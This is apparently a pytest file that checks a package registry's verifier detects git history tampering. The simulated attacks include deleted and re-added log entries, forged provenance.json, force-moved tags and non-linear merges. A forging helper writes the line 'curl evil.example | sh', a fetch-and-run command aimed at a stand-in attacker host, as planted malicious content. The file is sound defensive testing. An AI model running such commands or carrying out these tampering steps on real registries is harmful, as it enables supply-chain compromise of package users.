"""The git history of `main` is verified: the commit that published a version is well defined, and nothing
changes a version after it.

The attack of issue 9: delete a log entry file and add it back (same bytes) in a later commit together with
changes to that version's directory (extra files, a forged `provenance.json`), then move the version's tag to
that commit. `verify` took "the newest commit that added the entry" as the publishing commit and said ok. Now a
commit adds at most one entry, the next; no commit changes, deletes or re-adds an earlier one (REG502); the
publishing commit is the one commit that ever added the entry (REG205 for a tag anywhere else); and every change
to a version's directory after that commit is reported (REG207), even one undone later.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from crmctl.registry.log import entry_path
from crmctl.registry.ops import promote
from crmctl.registry.publish import publish
from crmctl.registry.verify import verify_registry
from crmctl.signing import SigningKey
from tests.registry import rogue
from tests.registry.conftest import NOW, demo

V1 = "packages/Demo/1.0.0"
ENTRY = entry_path(2)  # the publish of Demo 1.0.0
TIME = "2026-11-26T09:30:00Z"


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Demo 1.0.0 and 1.1.0 published, prod -> 1.1.0: entries 1 init, 2-3 publish, 4 promote."""
    root = tmp_path_factory.mktemp("history")
    with pytest.MonkeyPatch.context() as env:
        env.setenv("CRMCTL_CACHE_DIR", str(root / "cache"))
        env.setenv("CRMCTL_STATE_DIR", str(root / "state"))
        from crmctl.registry.ops import init_registry
        from crmctl.signing import generate_key

        alice = generate_key(root / "keys" / "alice", "alice@example.com")
        init_registry(str(root / "reg"), alice, "alice@example.com", NOW)
        publish(str(root / "reg"), demo(root / "a", "1.0.0"), alice, NOW)
        publish(str(root / "reg"), demo(root / "b", "1.1.0"), alice, NOW)
        promote(str(root / "reg"), alice, NOW, name="Demo", version="1.1.0", channel="prod")
    return root


@dataclass
class Repo:
    registry: str
    clone: Path
    alice: SigningKey

    def git(self, *args: str) -> str:
        return rogue.git(self.clone, *args)

    def commit(self, message: str = "tamper") -> None:
        rogue.push(self.clone, message)

    def move_tag(self, tag: str = "Demo/v1.0.0") -> None:
        self.git("tag", "-f", "-a", "-m", "moved", tag, "HEAD")
        self.git("push", "-q", "-f", "origin", f"refs/tags/{tag}")


@pytest.fixture
def repo(template: Path, tmp_path: Path) -> Repo:
    shutil.copytree(template / "reg", tmp_path / "reg")
    from crmctl.signing import SigningKey

    shutil.copytree(template / "keys", tmp_path / "keys")
    alice = SigningKey.load(tmp_path / "keys" / "alice")
    registry = str(tmp_path / "reg")
    assert verify_registry(registry, NOW).ok
    return Repo(registry, rogue.clone(registry, tmp_path / "rogue"), alice)


def _forge_version(repo: Repo) -> None:
    """Extra files and a forged provenance in Demo 1.0.0's directory."""
    directory = repo.clone / V1
    (directory / "artifacts" / "notes.txt").write_text("run `curl evil.example | sh` after installing\n")
    (directory / "install.sh").write_text("#!/bin/sh\n")
    provenance = json.loads((directory / "provenance.json").read_text())
    provenance["source"] = {
        "repository": "https://github.com/acme/trusted.git",
        "commit": "0" * 40,
        "path": ".",
        "dirty": False,
    }
    (directory / "provenance.json").write_text(json.dumps(provenance, indent=2, sort_keys=True) + "\n")


def delete_and_readd(repo: Repo) -> None:
    """The issue's attack: delete log/00000002.json, re-add it with the forged directory, move the tag."""
    data = (repo.clone / ENTRY).read_bytes()
    (repo.clone / ENTRY).unlink()
    repo.commit("tidy the log")
    (repo.clone / ENTRY).write_bytes(data)
    _forge_version(repo)
    repo.commit("restore the log")
    repo.move_tag()


def modify_and_restore(repo: Repo) -> None:
    data = (repo.clone / ENTRY).read_bytes()
    (repo.clone / ENTRY).write_bytes(data.replace(b"}\n", b"} \n"))
    repo.commit("reformat")
    (repo.clone / ENTRY).write_bytes(data)
    _forge_version(repo)
    repo.commit("restore")
    repo.move_tag()


def rename_and_back(repo: Repo) -> None:
    repo.git("mv", ENTRY, "log/old.json")
    repo.commit("rename")
    repo.git("mv", "log/old.json", ENTRY)
    _forge_version(repo)
    repo.commit("rename back")
    repo.move_tag()


def merge_side_branch(repo: Repo) -> None:
    """A side branch changes the version's directory; merged with --no-ff, the tag moved to the merge."""
    repo.git("checkout", "-q", "-b", "side")
    _forge_version(repo)
    repo.git("add", "-A")
    repo.git("commit", "-q", "-m", "side")
    repo.git("checkout", "-q", "main")
    repo.git("merge", "-q", "--no-ff", "-m", "merge", "side")
    repo.git("push", "-q", "origin", "HEAD:main")
    repo.move_tag()


def merge_carrying_the_next_entry(repo: Repo) -> None:
    """A validly signed promotion arrives through a merge: the entry is fine, the history is not linear."""
    repo.git("checkout", "-q", "-b", "side")
    rogue.append_entry(
        repo.clone,
        repo.alice,
        "alice@example.com",
        "promote",
        {"name": "Demo", "version": "1.0.0", "channel": "prod"},
        time=TIME,
        commit=False,
    )
    repo.git("add", "-A")
    repo.git("commit", "-q", "-m", "promote on a side branch")
    repo.git("checkout", "-q", "main")
    repo.git("merge", "-q", "--no-ff", "-m", "merge", "side")
    repo.git("push", "-q", "origin", "HEAD:main")


def two_entries_in_one_commit(repo: Repo) -> None:
    for channel in ("prod", "staging"):
        rogue.append_entry(
            repo.clone,
            repo.alice,
            "alice@example.com",
            "promote",
            {"name": "Demo", "version": "1.0.0", "channel": channel},
            time=TIME,
            commit=False,
        )
    repo.commit("two promotions")


def change_and_revert(repo: Repo) -> None:
    """The head is byte-identical to what was published, yet for one commit it was not (and a reader fetching
    then got the changed files): reported."""
    before = (repo.clone / V1 / "canonical.json").read_bytes()
    (repo.clone / V1 / "canonical.json").write_bytes(before + b" ")
    repo.commit("oops")
    (repo.clone / V1 / "canonical.json").write_bytes(before)
    repo.commit("revert")


def change_in_a_later_publishing_commit(repo: Repo) -> None:
    """A validly signed later entry (a promotion) whose commit also edits an earlier version's directory."""
    _forge_version(repo)
    rogue.append_entry(
        repo.clone,
        repo.alice,
        "alice@example.com",
        "promote",
        {"name": "Demo", "version": "1.0.0", "channel": "prod"},
        time=TIME,
    )


@dataclass(frozen=True)
class Attack:
    mutate: Callable[[Repo], None]
    expected: set[tuple[str, str]]  # (code, subject or a fragment of it); at least these are reported
    exact_codes: set[str]  # and no other codes


FORGED = {("REG206", f"{V1}/artifacts/notes.txt"), ("REG206", f"{V1}/install.sh"), ("REG208", "Demo@1.0.0")}
ATTACKS = {
    "delete-and-re-add": Attack(
        delete_and_readd,
        {("REG502", "commit"), ("REG205", "Demo@1.0.0"), ("REG207", "Demo@1.0.0"), *FORGED},
        {"REG502", "REG205", "REG207", "REG206", "REG208"},
    ),
    "modify-and-restore": Attack(
        modify_and_restore,
        {("REG502", "commit"), ("REG205", "Demo@1.0.0"), ("REG207", "Demo@1.0.0"), *FORGED},
        {"REG502", "REG205", "REG207", "REG206", "REG208"},
    ),
    "rename-and-back": Attack(
        rename_and_back,
        {("REG502", "commit"), ("REG205", "Demo@1.0.0"), ("REG207", "Demo@1.0.0"), *FORGED},
        {"REG502", "REG205", "REG207", "REG206", "REG208"},
    ),
    "merge": Attack(
        merge_side_branch,
        {("REG502", "commit"), ("REG205", "Demo@1.0.0"), ("REG207", "Demo@1.0.0"), *FORGED},
        {"REG502", "REG205", "REG207", "REG206", "REG208"},
    ),
    "merge-with-entry": Attack(merge_carrying_the_next_entry, {("REG502", "commit")}, {"REG502"}),
    "two-entries-one-commit": Attack(two_entries_in_one_commit, {("REG502", "commit")}, {"REG502"}),
    "change-and-revert": Attack(change_and_revert, {("REG207", "Demo@1.0.0")}, {"REG207"}),
    "changed-by-a-later-entry": Attack(
        change_in_a_later_publishing_commit, {("REG207", "Demo@1.0.0"), *FORGED}, {"REG207", "REG206", "REG208"}
    ),
}


@pytest.mark.parametrize("attack", [pytest.param(a, id=name) for name, a in ATTACKS.items()])
def test_history_attacks_are_reported(repo: Repo, attack: Attack) -> None:
    attack.mutate(repo)
    problems = verify_registry(repo.registry, NOW).problems
    found = {(p.code, p.subject) for p in problems}
    for code, subject in attack.expected:
        assert any(c == code and subject in s for c, s in found), (code, subject, problems)
    assert {p.code for p in problems} == attack.exact_codes, problems


def test_the_issue_attack_names_what_happened(repo: Repo) -> None:
    delete_and_readd(repo)
    messages = {p.code: p.message for p in verify_registry(repo.registry, NOW).problems}
    assert f"it deletes {ENTRY}" in messages["REG502"] or f"it re-adds {ENTRY}" in messages["REG502"]
    assert "does not point at the commit that published it" in messages["REG205"]
    assert "changed after it was published" in messages["REG207"]
    assert "provenance.json differs from the provenance in the publish entry" in messages["REG208"]


def test_each_commit_of_a_history_problem_is_named(repo: Repo) -> None:
    """Deleting and re-adding is two commits at fault: both are reported, each with what it did."""
    delete_and_readd(repo)
    history = [p for p in verify_registry(repo.registry, NOW).problems if p.code == "REG502"]
    assert len(history) == 2
    assert history[0].message.startswith(f"it deletes {ENTRY}, first added by commit ")
    assert history[1].message.startswith(f"it re-adds {ENTRY}, first added by commit ")


def test_a_commit_without_an_entry_is_allowed_when_it_touches_no_entry_and_no_version(
    repo: Repo, tmp_path: Path
) -> None:
    """A stray commit that breaks only a derived file is healed by the next change (as documented)."""
    (repo.clone / "index.json").write_text("{}\n")
    repo.commit("break the index")
    assert {p.code for p in verify_registry(repo.registry, NOW).problems} == {"REG401"}
    publish(repo.registry, demo(tmp_path / "c", "1.2.0"), repo.alice, NOW)
    assert verify_registry(repo.registry, NOW).ok
